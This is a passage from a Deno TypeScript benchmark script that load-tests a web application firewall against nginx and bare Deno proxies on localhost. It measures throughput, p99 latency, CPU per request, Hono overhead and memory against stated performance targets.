      console.log(
        await rssComparison(
          dir,
          `http://127.0.0.1:${upPort}`,
          opts,
          [SERVER_V8_FLAGS, ...values.candidate],
          Number(values["rss-rounds"]),
          rssSeconds,
          values["candidate-tree"],
        ),
      );
      console.log(`load average at the end: ${loadAverage()}`);
      return 0;
    }
    const rpPort = freePort();
    children.push(await startNginxProxy(dir, "proxy", rpPort, upPort, nginxWorkers));
    const barePort = freePort();
    children.push(await startBareProxy(`http://127.0.0.1:${upPort}`, barePort, "fetch"));
    const clientPort = freePort();
    children.push(await startBareProxy(`http://127.0.0.1:${upPort}`, clientPort, "http1"));
    const honoPort = freePort();
    children.push(await startBareProxy(`http://127.0.0.1:${upPort}`, honoPort, "http1-hono"));
    const wafPort = freePort();
    const wafChild = await startWaf(
      dir,
      `http://127.0.0.1:${upPort}`,
      wafPort,
      freePort(),
      workers,
    );
    children.push(wafChild);
    // The one-worker pair (indices 6 and 7 of `pid`), unless the default pair is one already.
    const rp1Port = freePort();
    const waf1Port = freePort();
    let waf1Child: typeof wafChild | undefined;
    if (onePair) {
      children.push(await startNginxProxy(dir, "proxy1", rp1Port, upPort, 1));
      waf1Child = await startWaf(
        dir,
        `http://127.0.0.1:${upPort}`,
        waf1Port,
        freePort(),
        "1",
        [],
        ROOT,
        {
          name: "waf1",
        },
      );
      children.push(waf1Child);
    }

    const pid = children.map((c) => c.pid);
    const url = (port: number) => `http://127.0.0.1:${port}`;
    const targets = [
      { name: "upstream direct", url: url(upPort), host: "on.bench", pid: pid[0]! },
      { name: "nginx reverse proxy", url: url(rpPort), host: "on.bench", pid: pid[1]! },
      { name: "deno bare proxy", url: url(barePort), host: "on.bench", pid: pid[2]! },
      { name: "deno bare, own client", url: url(clientPort), host: "on.bench", pid: pid[3]! },
      { name: "waf, protection off", url: url(wafPort), host: "off.bench", pid: pid[5]! },
      { name: "waf, balanced/block", url: url(wafPort), host: "on.bench", pid: pid[5]! },
    ] as const;
    const oneWorker = onePair
      ? [
        { name: "nginx, 1 worker", url: url(rp1Port), host: "on.bench", pid: pid[6]! },
        { name: "waf 1 worker, default", url: url(waf1Port), host: "on.bench", pid: pid[7]! },
      ]
      : [];
    if (values["half-only"]) {
      const text = await halfRateRounds(dir, targets, pid[5]!, opts, {
        connections: pacedConnections,
        rounds: Number(values["half-rounds"]),
        candidates: values.candidate,
        trees: values["candidate-tree"],
        upstream: url(upPort),
        children,
      });
      console.log(text);
      return 0;
    }
    const results: Record<string, Record<string, WrkResult>> = {};
    for (const [mixName, mix] of [["benign", BENIGN], ["attack", ATTACK]] as const) {
      results[mixName] = {};
      for (const t of [...targets, ...oneWorker]) {
        // A short warm-up fills connection pools and JIT caches before the measured run.
        await wrk(dir, t.url, wrkScript(mix, t.host), { ...opts, duration: 2 });
        const r = await measured(t.pid, dir, t.url, wrkScript(mix, t.host), opts);
        results[mixName]![t.name] = r;
        if (!values.json) {
          console.log(
            `${mixName.padEnd(6)} ${t.name.padEnd(22)} ${fmt(r.rps, 0).padStart(8)} req/s  p50 ${
              fmt(r.p50)
            } ms  p90 ${fmt(r.p90)} ms  p99 ${fmt(r.p99)} ms  cpu ${
              fmt(r.cpuUs!, 1)
            } µs/req  non-2xx ${r.non2xx}/${r.requests}`,
          );
        }
      }
    }
    // Half of the WAF's maximum benign rate, paced; compare p99 with the upstream served directly
    // and with the bare Deno proxy (what the WAF's own code adds).
    const wafMax = results["benign"]!["waf, balanced/block"]!.rps;
    const target = wafMax / 2;
    const pacedOpts = {
      ...opts,
      connections: pacedConnections,
      threads: Math.min(opts.threads, pacedConnections),
    };
    const paced: Record<string, PacedResult> = {};
    for (const t of [targets[0], targets[1], targets[2], targets[3], targets[5]]) {
      paced[t.name] = await pacedRun(dir, t.url, t.host, target, pacedOpts);
    }
    const direct = paced["upstream direct"]!;
    const bare = paced["deno bare proxy"]!;
    const waf = paced["waf, balanced/block"]!;
    const b = results["benign"]!;
    const a = results["attack"]!;
    const ratios = {
      benign_waf_default_vs_nginx: b["waf, balanced/block"]!.rps / b["nginx reverse proxy"]!.rps,
      benign_waf_off_vs_nginx: b["waf, protection off"]!.rps / b["nginx reverse proxy"]!.rps,
      benign_waf_default_vs_off: b["waf, balanced/block"]!.rps / b["waf, protection off"]!.rps,
      benign_waf_default_vs_bare_deno: b["waf, balanced/block"]!.rps / b["deno bare proxy"]!.rps,
      benign_bare_deno_vs_nginx: b["deno bare proxy"]!.rps / b["nginx reverse proxy"]!.rps,
      benign_bare_client_vs_nginx: b["deno bare, own client"]!.rps / b["nginx reverse proxy"]!.rps,
      benign_bare_client_vs_bare_fetch: b["deno bare, own client"]!.rps /
        b["deno bare proxy"]!.rps,
      attack_waf_default_vs_nginx: a["waf, balanced/block"]!.rps / a["nginx reverse proxy"]!.rps,
      nginx_vs_upstream: b["nginx reverse proxy"]!.rps / b["upstream direct"]!.rps,
      // CPU per request, inverted (nginx's cost over ours): less sensitive than req/s to what the
      // other processes on the machine are doing.
      benign_cpu_nginx_over_waf_default: b["nginx reverse proxy"]!.cpuUs! /
        b["waf, balanced/block"]!.cpuUs!,
      benign_cpu_bare_fetch_over_bare_client: b["deno bare proxy"]!.cpuUs! /
        b["deno bare, own client"]!.cpuUs!,
    };
    // Hono's cost: the bare own-client proxy with and without the data plane's Hono app,
    // alternated in short runs (the median of three ratios; one long run each is too noisy here).
    const honoRatios: number[] = [];
    const honoCpu: number[] = [];
    for (let round = 0; round < 3; round++) {
      const script = wrkScript(BENIGN, "on.bench");
      const short = { ...opts, duration: 4 };
      const plain = await measured(pid[3]!, dir, targets[3].url, script, short);
      const hono = await measured(pid[4]!, dir, url(honoPort), script, short);
      honoRatios.push(hono.rps / plain.rps);
      honoCpu.push(hono.cpuUs! / plain.cpuUs!);
    }
    const honoRatio = median(honoRatios);
    const honoCpuRatio = median(honoCpu);
    const front = await frontCost(dir, `http://127.0.0.1:${upPort}`, opts, children);
    // What Hono adds per request, measured in this process without sockets (steady on a loaded
    // machine), as a share of the WAF's CPU time per request: the throughput Hono costs when the
    // WAF is CPU-bound.
    const honoUs = await honoCostUs();
    const honoShare = honoUs / b["waf, balanced/block"]!.cpuUs!;

    // Resident memory of each WAF after a long full-load run (issue 35: <= 200 MB with one
    // worker, <= 320 MB with two).
    const rss: Array<{ name: string; workers: number; mb: number }> = [];
    if (rssSeconds > 0) {
      const wafs = [{ child: wafChild, url: targets[5].url, workers: workerThreads(workers) }];
      if (waf1Child) wafs.push({ child: waf1Child, url: url(waf1Port), workers: 1 });
      for (const w of wafs) {
        await wrk(dir, w.url, wrkScript(BENIGN, "on.bench"), { ...opts, duration: rssSeconds });
        rss.push({
          name: `waf, ${w.workers} worker(s)`,
          workers: w.workers,
          mb: vmRssMb(w.child.pid),
        });
      }
    }
    // A flood of benign requests with attacks in it, a CPU hog beside it: the access log must
    // keep every blocked request's record (issue 35) and say what it sampled.
    const hog = hogSeconds > 0
      ? await hogRun(dir, wafChild, targets[5].url, { ...opts, duration: hogSeconds })
      : undefined;
    const added = {
      target_rps: target,
      connections: pacedConnections,
      paced,
      added_p99_ms: waf.p99 - direct.p99,
      added_p99_over_bare_ms: waf.p99 - bare.p99,
    };
    if (values.json) {
      console.log(
        JSON.stringify(
          {
            options: opts,
            results,
            ratios,
            half_rate: added,
            hono: {
              us_per_request: honoUs,
              share_of_waf_cpu: honoShare,
              bare_rps_ratio: honoRatio,
            },
            rss,
            hog,
            front,
          },
          null,
          2,
        ),
      );
    } else {
      console.log("\nratios (requests/s):");
      for (const [k, v] of Object.entries(ratios)) {
        console.log(`  ${k.padEnd(30)} ${fmt(v * 100, 1)}%`);
      }
      console.log(
        `\nat half the WAF's max rate (target ${fmt(target, 0)} req/s, ${pacedConnections} ` +
          `connections, wrk delay() pacing calibrated per target):`,
      );
      for (const [name, r] of Object.entries(paced)) {
        console.log(
          `  ${name.padEnd(22)} ${fmt(r.rps, 0).padStart(6)} req/s  p50 ${fmt(r.p50)} ms  p90 ${
            fmt(r.p90)
          } ms  p99 ${fmt(r.p99)} ms  (delay ${fmt(r.delayMs)} ms)`,
        );
      }
      console.log(
        `  p99 added by the WAF: ${fmt(added.added_p99_ms)} ms over the upstream, ${
          fmt(added.added_p99_over_bare_ms)
        } ms over the bare Deno proxy`,
      );
      console.log(
        `\nHono: ${fmt(honoUs, 2)} µs CPU a request (its one-route app around a handler, ` +
          `in process) = ${fmt(honoShare * 100, 1)}% of the WAF's ${
            fmt(b["waf, balanced/block"]!.cpuUs!, 1)
          } µs a request`,
      );
      console.log(
        `Hono app around the bare own-client proxy (median of 3 alternated 4 s runs): ${
          fmt(honoRatio * 100, 1)
        }% of its throughput (${honoRatios.map((r) => fmt(r * 100, 1)).join(", ")}), ${
          fmt(honoCpuRatio * 100, 1)
        }% of its CPU per request (${honoCpu.map((r) => fmt(r * 100, 1)).join(", ")})`,
      );
      console.log(`\n${front.text}`);
      for (const r of rss) {
        console.log(
          `\nresident memory after ${rssSeconds} s of full load: ${r.name} ${fmt(r.mb, 1)} MB`,
        );
      }
      if (hog) console.log(`\n${hog.text}`);
      const met = (ok: boolean) => ok ? "met" : "NOT met";
      const one = onePair ? b["waf 1 worker, default"]! : b["waf, balanced/block"]!;
      const oneNginx = onePair ? b["nginx, 1 worker"]! : b["nginx reverse proxy"]!;
      const oneAttack = onePair ? a["waf 1 worker, default"]! : a["waf, balanced/block"]!;
      const oneNginxAttack = onePair ? a["nginx, 1 worker"]! : a["nginx reverse proxy"]!;
      const cpuBenign = one.cpuUs! / oneNginx.cpuUs!;
      const cpuAttack = oneAttack.cpuUs! / oneNginxAttack.cpuUs!;
      const rpsOne = one.rps / oneNginx.rps;
      const rpsAuto = ratios.benign_waf_default_vs_nginx;
      const lines = [
        `CPU a request, default protection, benign, one worker each <= 2x nginx: ${
          fmt(cpuBenign, 2)
        }x (${met(cpuBenign <= 2)})`,
        `CPU a request, default protection, attack, one worker each <= 2.5x nginx: ${
          fmt(cpuAttack, 2)
        }x (${met(cpuAttack <= 2.5)})`,
        `req/s, one worker each >= 50% of nginx: ${fmt(rpsOne * 100, 1)}% (${met(rpsOne >= 0.5)})`,
        ...(nginxWorkers === "auto"
          ? [
            `req/s, workers auto >= 45% of nginx worker_processes auto: ${
              fmt(rpsAuto * 100, 1)
            }% (${met(rpsAuto >= 0.45)})`,
          ]
          : []),
        `own client >= 2x fetch: ${fmt(ratios.benign_bare_client_vs_bare_fetch, 2)}x (${
          met(ratios.benign_bare_client_vs_bare_fetch >= 2)
        })`,
        `Hono < 3% of the WAF's throughput: ${fmt(honoShare * 100, 1)}% (${met(honoShare < 0.03)})`,
        `p99 at half the WAF's max rate <= upstream's + 2 ms: +${fmt(added.added_p99_ms)} ms (${
          met(added.added_p99_ms <= 2)
        })`,
        ...(hog === undefined ? [] : [
          `0 dropped records of blocked requests, ${hogSeconds} s full load beside a CPU hog: ${hog.droppedVerdicts} (${
            met(hog.droppedVerdicts === 0)
          }); passed records sampled ${hog.sampled}, dropped ${hog.dropped}`,
        ]),
        ...rss.map((r) => {
          const bound = r.workers <= 1 ? 200 : 320;
          return `RSS after ${rssSeconds} s of full load, ${r.workers} worker(s) <= ${bound} MB: ${
            fmt(r.mb, 1)
          } MB (${met(r.mb <= bound)})`;
        }),
      ];
      console.log(`\ntargets:\n${lines.map((l) => `  ${l}`).join("\n")}`);
    }
    return 0;
  } finally {
    await stopAll(children, dir);
  }
}

if (import.meta.main) Deno.exit(await main(Deno.args));
